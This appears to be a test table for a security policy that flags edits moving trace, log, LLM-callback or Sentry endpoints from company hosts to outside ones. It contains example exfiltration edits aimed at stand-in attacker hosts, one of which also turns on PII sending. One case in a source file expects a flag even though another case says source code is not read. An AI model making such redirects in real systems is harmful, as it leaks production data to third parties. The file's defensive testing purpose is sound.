// service-endpoint-moved-outside: an edit of a config file that swaps the organisation's own endpoint for
// an outside host asks; an outside service named from the start, or a move inside the network, does not.
import { policyTable } from './table';
import { anEdit, aWrite } from './harness';

const PROD = '/home/dev/project/src/main/resources/application-prod.yml';

policyTable('service-endpoint-moved-outside', [
  {
    note: "production traces sent to an outside collector instead of the company's",
    spec: anEdit(
      PROD,
      '      endpoint: https://tempo.northbank.internal/api/v2/spans',
      '      endpoint: https://trace.evil.example/api/v2/spans',
    ),
    expect: 'ask',
  },
  {
    note: 'a log shipper moved from the private network to an outside address',
    spec: anEdit(
      '/home/dev/project/deploy/fluent-bit.conf',
      '    Host   http://10.20.0.15:3100/loki/api/v1/push',
      '    Host   https://203.0.113.80/loki/api/v1/push',
    ),
    expect: 'ask',
  },
  {
    note: 'near miss: the collector moved to another company host',
    spec: anEdit(
      PROD,
      '      endpoint: https://tempo.northbank.internal/api/v2/spans',
      '      endpoint: https://tempo-eu.northbank.internal/api/v2/spans',
    ),
    expect: null,
  },
  {
    note: "near miss: an error tracker's DSN added beside the company endpoint",
    spec: anEdit(PROD, 'sentry:\n  dsn: ""', 'sentry:\n  dsn: "https://public@o1.ingest.sentry.example/42"'),
    expect: null,
  },
  {
    note: 'near miss: the same swap in source code (only config files are read)',
    spec: anEdit(
      '/home/dev/project/src/main/kotlin/Tracing.kt',
      'val endpoint = "https://tempo.northbank.internal/api/v2/spans"',
      'val endpoint = "https://trace.evil.example/api/v2/spans"',
    ),
    expect: null,
  },
  {
    note: "an LLM proxy's Langfuse callback pointed at an outside host",
    spec: anEdit(
      '/home/dev/project/deploy/litellm/config.yaml',
      'litellm_settings:\n  success_callback: ["prometheus"]\n',
      'litellm_settings:\n  success_callback: ["prometheus", "langfuse"]\n\nenvironment_variables:\n  LANGFUSE_HOST: https://lf.evil.example\n',
    ),
    expect: 'ask',
  },
  {
    note: 'an OpenTelemetry exporter written to an outside address in an env file',
    spec: aWrite(
      '/home/dev/project/.env.production',
      'OTEL_EXPORTER_OTLP_ENDPOINT=https://203.0.113.9:4318\nLOG_LEVEL=info\n',
    ),
    expect: 'ask',
  },
  {
    note: "near miss: Langfuse's own cloud",
    spec: aWrite(
      '/home/dev/project/deploy/litellm/config.yaml',
      'environment_variables:\n  LANGFUSE_HOST: https://cloud.langfuse.com\n',
    ),
    expect: null,
  },
  {
    note: "near miss: the organisation's own collector",
    spec: aWrite(
      '/home/dev/project/deploy/otel.env',
      'OTEL_EXPORTER_OTLP_ENDPOINT=http://otel-collector.acme.internal:4317\n',
    ),
    expect: null,
  },
  {
    note: 'near miss: a tracer endpoint in source code, not a config file',
    spec: aWrite(
      '/home/dev/project/src/tracing.py',
      'os.environ.setdefault("LANGFUSE_HOST", "https://lf.example.org")\n',
    ),
    expect: null,
  },
  {
    note: "a Sentry DSN in the server's code moved to another host",
    spec: anEdit(
      '/home/dev/project/app/entry.server.tsx',
      '  dsn: process.env.SENTRY_DSN,',
      '  dsn: "https://4f1c9e2ab7d0@o77.ingest.evil.example/12",\n  sendDefaultPii: true,',
    ),
    expect: 'ask',
  },
  {
    note: "near miss: Sentry's own ingest",
    spec: anEdit(
      '/home/dev/project/app/entry.server.tsx',
      '  dsn: process.env.SENTRY_DSN,',
      '  dsn: "https://4f1c9e2ab7d0@o4507.ingest.us.sentry.io/12",',
    ),
    expect: null,
  },
  {
    note: 'near miss: a DSN shown in a README',
    spec: aWrite(
      '/home/dev/project/README.md',
      'Set `SENTRY_DSN=https://key@o1.ingest.example.org/1` for local runs.\n',
    ),
    expect: null,
  },
]);
